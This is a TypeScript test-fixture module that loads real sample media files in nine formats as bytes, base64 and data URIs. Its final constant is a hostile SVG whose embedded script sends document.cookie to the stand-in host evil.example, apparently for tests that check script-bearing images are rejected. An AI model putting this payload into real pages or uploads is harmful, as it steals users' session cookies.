// Real small media files (test/fixtures/media, made once with ffmpeg 5.1's lavfi test sources; see the
// README there): every format the outputs accept, as bytes, base64 and data URIs.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const DIR = join(__dirname, '..', '..', 'fixtures', 'media');

export const MEDIA_SAMPLES = ['jpg', 'webp', 'gif', 'mp4', 'webm', 'wav', 'mp3', 'ogg', 'flac'] as const;
export type MediaSample = (typeof MEDIA_SAMPLES)[number];

export const MIME_OF_SAMPLE: Record<MediaSample, string> = {
  jpg: 'image/jpeg', webp: 'image/webp', gif: 'image/gif', mp4: 'video/mp4', webm: 'video/webm',
  wav: 'audio/wav', mp3: 'audio/mpeg', ogg: 'audio/ogg', flac: 'audio/flac',
};

export const KIND_OF_SAMPLE: Record<MediaSample, 'image' | 'video' | 'audio'> = {
  jpg: 'image', webp: 'image', gif: 'image', mp4: 'video', webm: 'video', wav: 'audio', mp3: 'audio', ogg: 'audio', flac: 'audio',
};

export function aSample(ext: MediaSample): Buffer {
  return readFileSync(join(DIR, `sample.${ext}`));
}

export function aSampleBase64(ext: MediaSample): string {
  return aSample(ext).toString('base64');
}

export function aSampleDataUri(ext: MediaSample): string {
  return `data:${MIME_OF_SAMPLE[ext]};base64,${aSampleBase64(ext)}`;
}

/** An SVG with a script in it: what a hostile worker sends as an "image". */
export const HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>';
